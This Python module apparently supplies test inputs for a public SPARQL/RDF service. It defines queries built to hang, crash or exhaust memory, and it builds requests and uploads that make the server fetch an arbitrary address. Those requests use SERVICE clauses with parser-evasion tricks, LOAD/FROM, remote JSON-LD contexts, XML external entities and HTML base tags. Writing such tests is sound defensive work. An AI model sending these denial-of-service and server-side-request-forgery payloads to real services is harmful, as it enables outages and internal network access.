"""Queries that hang, crash or eat memory, and texts that would have something fetched: what a public service meets."""

from urllib.parse import quote

LABEL = "<http://e/label> ?"
HANGING = [
    f"SELECT (COUNT(*) AS ?n) {{ ?a {LABEL}b . ?c {LABEL}d . ?e {LABEL}f }}",
    "SELECT (COUNT(*) AS ?n) { ?a (<http://e/next>*)* ?b . ?c <http://e/next> ?d FILTER(?a = ?d) }",
    f"ASK {{ ?a {LABEL}b . ?c {LABEL}d . ?e {LABEL}f FILTER(STRLEN(CONCAT(?b, ?d, ?f)) < 0) }}",
    "SELECT * { ?s " + " ; ".join(f"<http://e/next> ?o{i}" for i in range(256)) + " }",
]
CRASHING = [
    "SELECT * " + "{" * 20_000 + "}" * 20_000,
    "SELECT (" + "(" * 40_000 + "1" + ")" * 40_000 + " AS ?x) {}",
    "SELECT (1" + "+1" * 20_000 + " AS ?x) {}",
    "SELECT ((1<" + "(" * 20_000 + "1" + ")" * 20_000 + ">0) AS ?x) {}",
    "SELECT (" + "STR(" * 4_000 + "1" + ")" * 4_000 + " AS ?x) {}",
]
EATING = [
    "SELECT (COUNT(*) AS ?n) { ?a <http://e/next>* ?b . ?b <http://e/next>+ ?c . ?c <http://e/next>* ?d }",
    f"SELECT (COUNT(*) AS ?n) {{ ?a {LABEL}b OPTIONAL {{ ?c {LABEL}d OPTIONAL {{ ?e {LABEL}f FILTER(?d < ?f) }} }} }}",
    "SELECT ?x39 { BIND('a' AS ?x0) " + " ".join(f"BIND(CONCAT(?x{i}, ?x{i}) AS ?x{i + 1})" for i in range(39)) + " }",
    f"SELECT * {{ ?a {LABEL}b . ?c {LABEL}d }} ORDER BY ?d ?b",
    f"SELECT (GROUP_CONCAT(CONCAT(?b, ?d)) AS ?x) {{ ?a {LABEL}b . ?c {LABEL}d }}",
]


def on_the_graph(query: str) -> str:
    """The query with predicates that the released graph has, many times over."""
    return query.replace("<http://e/label>", "skos:prefLabel").replace("<http://e/next>", "skos:inScheme")


def fetching(address: str) -> list[tuple[str, str, dict[str, str], bytes]]:
    """Requests (method, path, headers, body) that would have the service open a connection to http://ADDRESS."""
    at = f"http://{address}"
    queries = [
        f"SELECT * {{ SERVICE <{at}/s> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ S\\u0045RVICE <{at}/s> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICE SILENT <{at}/s> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICESILENT<{at}/s>{{ ?s ?p ?o }} }}",
        f"SELECT * {{ VALUES ?g {{ <{at}/s> }} SERVICE ?g {{ ?s ?p ?o }} }}",
        f"SELECT * {{ BIND(1 AS ?a) BIND(2 AS ?b) FILTER(?a<?b#>'''\n) SERVICE <{at}/s> {{ ?s ?p ?o }} #'''\n}}",
        f"SELECT * {{ BIND(1 AS ?a) FILTER(?a<<?b#>) SERVICE <{at}/s> {{ ?s ?p ?o }}\n}}",
        f"SELECT * FROM <{at}/g> {{ ?s ?p ?o }}",
        f"SELECT * FROM NAMED <{at}/g> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
        f"LOAD <{at}/g>",
        f"DESCRIBE <{at}/g>",
    ]
    requests = [("GET", f"/sparql?query={quote(query)}", {}, b"") for query in queries]
    requests += [("POST", "/sparql", {"Content-Type": "application/sparql-query"}, query.encode()) for query in queries]
    requests += [("POST", "/sparql", {"Content-Type": "application/sparql-update"}, f"LOAD <{at}/g>".encode())]
    requests += [
        ("GET", f"/sparql?query=ASK%7B%7D&{name}={quote(f'{at}/g')}", {}, b"") for name in ("default-graph-uri", "named-graph-uri")
    ]
    uploads = {
        "a.jsonld": f'{{"@context": "{at}/context", "@id": "http://e/a"}}',
        "b.jsonld": f'{{"@context": {{"@import": "{at}/context"}}, "@id": "http://e/a"}}',
        "c.json": f'{{"@context": ["https://w3id.org/isgkg/record.jsonld", "{at}/context"], "type": "Experiment"}}',
        "d.rdf": f'<!DOCTYPE r [<!ENTITY x SYSTEM "{at}/x">]><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">&x;</rdf:RDF>',
        "e.rdf": f'<?xml-stylesheet href="{at}/x"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xml:base="{at}/"/>',
        "f.ttl": f"@base <{at}/> . <> <http://www.w3.org/2002/07/owl#imports> <shapes> .",
    }
    drafts = {
        "a.html": f'<html><base href="{at}/"><link rel="stylesheet" href="x"><img src="{at}/x"><p>控制组</p></html>',
        "b.xml": f'<!DOCTYPE standard SYSTEM "{at}/sts.dtd"><standard><body><p>控制组</p></body></standard>',
    }
    return [*requests, *(_upload("/validate", *file) for file in uploads.items()), *(_upload("/check", *file) for file in drafts.items())]


def _upload(path: str, name: str, text: str) -> tuple[str, str, dict[str, str], bytes]:
    boundary = "boundary"
    body = f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n\r\n{text}\r\n--{boundary}--\r\n'
    return "POST", path, {"Content-Type": f"multipart/form-data; boundary={boundary}"}, body.encode()
